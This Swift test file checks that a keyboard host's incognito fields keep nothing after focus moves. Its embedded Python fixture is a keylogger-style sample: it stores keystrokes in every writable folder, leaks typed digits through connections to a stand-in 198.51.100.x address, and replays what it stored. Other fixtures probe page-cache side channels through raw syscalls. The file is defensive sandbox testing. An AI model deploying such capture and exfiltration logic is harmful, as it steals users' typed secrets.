import Glibc
import StrictJSON
import TestSupport
import Testing

/// What is typed into an incognito field is gone with its focus, whatever the keyboard was granted and
/// however it tries to keep it or to tell it. Each way works first in an ordinary field.
@Suite("Nothing of an incognito field outlives its focus", .serialized)
struct IncognitoTests {
  /// Keeps what is typed in its memory and in every folder that it can write to, asks for a connection to
  /// an address that has the key in it, and types all that it remembers for the key q. For the key w it
  /// says what it has.
  private static let hoarding = PythonKeyboard.script(
    #"""
    import socket
    PLACES = sorted({os.environ[name] for name in os.environ if os.environ[name].startswith("/")}
                    | {"/container", "/shared", "/bundle", "/tmp", "/dev/shm", "/"})
    memory, facts = [], {}
    def hoard(text):
        memory.append(text)
        for place in PLACES:
            try:
                with open(place + "/hoard", "a") as file:
                    file.write(text + "\n")
            except OSError:
                pass
        try:
            line = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            facts["socket"] = True
            line.connect(("198.51.100.%d" % (100 + int(text[-1])), 80))
        except OSError:
            pass
    def remembered():
        found = list(memory)
        for place in PLACES:
            try:
                found += open(place + "/hoard").read().split("\n")
            except OSError:
                pass
        return " ".join(found)
    def start(request):
        facts["full"] = request["params"]["hasFullAccess"]
        facts["shared"] = os.path.exists("/shared")
        initialize(request)
        send(id=900, method="lexicon")
    def other(message):
        if message.get("id") == 900:
            facts["lexicon"] = len(message["result"]["entries"]) > 0
    def keep(request):
        text = typed(request)
        if text == "q":
            return reply(request, [{"insertText": "<" + remembered() + ">"}])
        if text == "x":
            return answer(request)
        if text == "w":
            return reply(request, [{"insertText": json.dumps(facts, sort_keys=True)}])
        hoard(request["params"]["context"]["beforeInput"] + text)
        reply(request, [{"insertText": text}])
    serve(keep, on_initialize=start, on_other=other)
    """#)

  private static let known = "8204715369"
  private static let secret = "5173920846"

  /// A conversation with a host.
  private final class Session {
    let home: TemporaryHome
    let running: RunningProgram
    private(set) var texts: [String: String] = [:]
    private(set) var handlers: [String] = []

    init(_ home: TemporaryHome, _ options: String...) throws {
      self.home = home
      running = try home.keyhost.start(["type", "--events", "--json"] + options)
    }

    /// Feeds a line, and waits until `count` inputs have been handled.
    func feed(_ line: String, handled count: Int = 0) throws {
      running.send(line: line)
      for _ in 0..<count {
        while true {
          let line = try #require(running.readLine(within: 60), "\(running.finish())")
          let value = try JSONDocument(parsing: Array(line.utf8)).root
          guard value["event"]?.string == "handled" else { continue }
          handlers.append(value["handler"]?.string ?? "")
          break
        }
      }
    }

    func type(_ text: String, in document: String) throws {
      try feed("{\"focus\":\"\(document)\"}")
      try feed("{\"type\":\"\(text)\"}", handled: text.count)
    }

    /// A key until the keyboard has answered it: on a busy machine the system keyboard may come before.
    func ask(_ key: String, in document: String) throws {
      for _ in 0..<100 {
        try type(key, in: document)
        if handlers.last == "keyboard" { return }
        usleep(200_000)
      }
      Issue.record("the keyboard never answers \(key) in \(document)")
    }

    func end() throws -> ProgramResult {
      running.closeInput()
      let result = running.finish()
      for line in result.lines {
        let value = try JSONDocument(parsing: Array(line.utf8)).root
        if value["event"]?.string == "text" {
          texts[value["document"]?.string ?? ""] = value["text"]?.string
        }
      }
      return result
    }
  }

  /// Every file below a folder, as text.
  private static func everything(below folder: String) throws -> String {
    try Files.tree(folder).compactMap { name in
      (try? Files.text("\(folder)/\(name)")).map { "\(name): \($0)\n" }
    }.joined()
  }

  private static func holds(_ text: String, _ secret: String) -> Bool {
    text.contains(secret.prefix(6)) || text.contains(secret.suffix(6))
  }

  @Test("not in files, memory, the app's container, an address, the next field or the log")
  func nothingIsKept() throws {
    let home = try TemporaryHome(keyboards: ["one": Self.hoarding], requestsOpenAccess: true)
    try home.expectSuccess("grant", TemporaryHome.identifier("one"), "open-access")
    try home.expectSuccess("replacements", "add", "omw", "on my way")

    let session = try Session(home)
    try session.feed(#"{"open":"a"}"#)
    try session.feed(#"{"open":"b"}"#)
    try session.feed(#"{"open":"card","field":{"textContentType":"creditCardNumber"}}"#)
    try session.feed(#"{"open":"shell","field":{"isTerminal":true}}"#)
    try session.ask("x", in: "a")
    try session.type(Self.known, in: "a")
    try session.ask("w", in: "a")
    for field in ["card", "shell"] {
      try session.ask("x", in: field)
      try session.type(Self.secret, in: field)
      try session.ask("q", in: field)
      try session.ask("w", in: field)
      try session.ask("q", in: "b")
    }
    let result = try session.end()
    #expect(result.exitCode == 0, "\(result)")

    // Everything works in an ordinary field: it keeps, tells and remembers what is typed.
    let places = "\(home.path)/data/keyhost/containers"
    let kept = try Self.everything(below: places)
    let told = session.texts["b"] ?? ""
    let log = try home.keyhost("log", "--json").standardOutput
    for text in [kept, told] { #expect(Self.holds(text, Self.known), "\(text)") }
    #expect(kept.contains("apps/org.example.fixture/hoard") || kept.contains("apps/"), "\(kept)")
    #expect(
      session.texts["a"]?.hasSuffix(
        #"{"full": true, "lexicon": true, "shared": true, "socket": true}"#) == true,
      "\(session.texts)")
    // The host was asked for a connection, and knows to which address.
    let lines = log.split(separator: "\n")
    #expect(lines.contains { $0.contains("198.51.100.108") }, "\(log)")
    // In an incognito one it remembers within the focus, and nothing of before.
    for field in ["card", "shell"] {
      let own = session.texts[field] ?? ""
      let parts = own.split(separator: "<")
      #expect(parts.first?.contains(Self.secret) == true && parts.count == 2, "\(own)")
      #expect(Self.holds(String(parts.last ?? ""), Self.secret), "\(own)")
      #expect(!Self.holds(own, Self.known), "\(own)")
      #expect(own.hasSuffix(#"{"full": false, "lexicon": false, "shared": false}"#), "\(own)")
    }
    // And nothing of it is anywhere after it.
    for text in [kept, told, log] { #expect(!Self.holds(text, Self.secret), "\(text)") }

    let marked = lines.filter { $0.contains("\"incognito\":true") }
    #expect(
      marked.contains { $0.contains("\"violation\"") && $0.contains("\"detail\":\"socket\"") },
      "\(log)")
    #expect(!marked.contains { $0.contains("198.51.100") }, "\(marked)")

    // The log tells which was which.
    let launches = lines.filter { $0.contains("\"event\":\"launch\"") }
    #expect(launches.map { $0.contains("\"incognito\":true") } == [false, true, true], "\(log)")
    #expect(launches.map { $0.contains("\"openAccess\":true") } == [true, false, false], "\(log)")
    #expect(!launches.dropFirst().contains { $0.contains("/shared") }, "\(launches)")
    let decisions = lines.filter { $0.contains("\"document\":\"card\"") }
    #expect(decisions.contains { $0.contains("\"incognito\":true") }, "\(decisions)")
    #expect(decisions.contains { $0.contains("incognito-card-number") }, "\(decisions)")
  }

  @Test("the times of files in the bundle do not change by reading")
  func times() throws {
    let home = try TemporaryHome(keyboards: [
      "one": PythonKeyboard.script(
        #"""
        def look(request):
            path = os.environ["KEYHOST_BUNDLE"] + "/Info.plist"
            before = os.stat(path)
            open(path).read()
            after = os.stat(path)
            reply(request, [{"insertText": "%d" % (before.st_atime_ns == after.st_atime_ns)}])
        serve(look)
        """#)
    ])
    let session = try Session(home)
    try session.feed(#"{"open":"card","field":{"textContentType":"creditCardNumber"}}"#)
    try session.ask("a", in: "card")
    try session.ask("a", in: "card")
    _ = try session.end()
    #expect(session.texts["card"]?.filter { $0 != "a" } == "11")
  }

  @Test("a keyboard can neither push pages of its bundle out of memory nor see which are in it")
  func pages() throws {
    let home = try TemporaryHome(keyboards: [
      "one": PythonKeyboard.script(
        #"""
        import ctypes, mmap
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.argtypes = [ctypes.c_long] + [ctypes.c_void_p] * 3
        def failure(number, *arguments):
            ctypes.set_errno(0)
            return ctypes.get_errno() if libc.syscall(number, *arguments) < 0 else 0
        def look(request):
            with open(os.environ["KEYHOST_BUNDLE"] + "/Info.plist", "rb") as file:
                place = mmap.mmap(file.fileno(), 0, mmap.MAP_PRIVATE)
                start = ctypes.addressof(ctypes.c_char.from_buffer(place)) & ~4095
                usage = ctypes.create_string_buffer(1024)
                answers = [failure(28, start, 4096, advice) for advice in (1, 2, 3, 20, 21, 22)]
                answers += [failure(28, start, 4096, advice) for advice in (0, 4)]
                answers += [failure(27, start, 4096, ctypes.addressof(usage))]
                answers += [failure(98, who, ctypes.addressof(usage), 0) for who in (0, 1)]
                answers += [failure(187, file.fileno(), 0, 4096), failure(221, file.fileno(), 0, 0)]
            reply(request, [{"insertText": " ".join(map(str, answers))}])
        serve(look)
        """#)
    ])
    let session = try Session(home)
    try session.feed(#"{"open":"a"}"#)
    try session.feed(#"{"open":"card","field":{"textContentType":"creditCardNumber"}}"#)
    for field in ["a", "card"] { try session.ask("x", in: field) }
    _ = try session.end()
    for field in ["a", "card"] {
      let answers = session.texts[field]?.drop { $0 == "x" }
      #expect(answers == "22 22 22 22 22 22 0 0 1 1 1 1 1", "\(session.texts)")
    }
  }

  @Test("its process is gone when the next field has the focus")
  func gone() throws {
    let home = try TemporaryHome(keyboards: ["one": PythonKeyboard.plain])
    let session = try Session(home)
    try session.feed(#"{"open":"a"}"#)
    try session.feed(#"{"open":"card","field":{"textContentType":"creditCardNumber"}}"#)
    try session.ask("1", in: "card")
    func process() throws -> String? {
      let log = try home.keyhost("log", "--json", "--event", "launch").standardOutput
      return try log.split(separator: "\n").compactMap { line -> String? in
        let value = try JSONDocument(parsing: Array(line.utf8)).root
        guard value["incognito"]?.boolean == true else { return nil }
        return value["process"]?.int64.map { "/proc/\($0)" }
      }.last
    }
    let path = try #require(try process())
    #expect(Files.exists(path))
    try session.type("x", in: "a")
    #expect(!Files.exists(path))
    let exits = try home.keyhost("log", "--json", "--event", "exit").standardOutput
    #expect(exits.contains("\"incognito\":true"), "\(exits)")
    _ = try session.end()
    #expect(session.texts["card"]?.last == "1" && session.texts["a"] == "x")
  }

  @Test("without every layer the system keyboard serves, and the log says why")
  func cannotStart() throws {
    let home = try TemporaryHome(keyboards: ["one": PythonKeyboard.shouting])
    let card = #"{"open":"card","field":{"textContentType":"creditCardNumber"}}"#
    func run(_ session: Session) throws {
      try session.feed(card)
      try session.feed(#"{"open":"a"}"#)
      try session.type("ab", in: "card")
    }
    func failure() throws -> String {
      try home.keyhost("log", "--json", "--event", "launchFailed").lines.last {
        $0.contains("\"incognito\":true")
      } ?? ""
    }
    for layer in ["landlock", "privateRoot", "networkNamespace"] {
      let session = try Session(home, "--allow-weaker", layer)
      try run(session)
      // As root, a container in the test's home cannot be reached without the private root. With
      // every other layer it is the ordinary instance that runs weakened.
      if layer != "privateRoot" { try session.ask("c", in: "a") }
      _ = try session.end()
      #expect(session.texts["card"] == "ab", "\(layer)")
      let line = try failure()
      #expect(line.contains("every layer") && line.contains(layer), "\(line)")
    }
    let session = try Session(home)
    try run(session)
    try session.ask("c", in: "card")
    _ = try session.end()
    #expect(session.texts["card"]?.last == "C")
  }
}
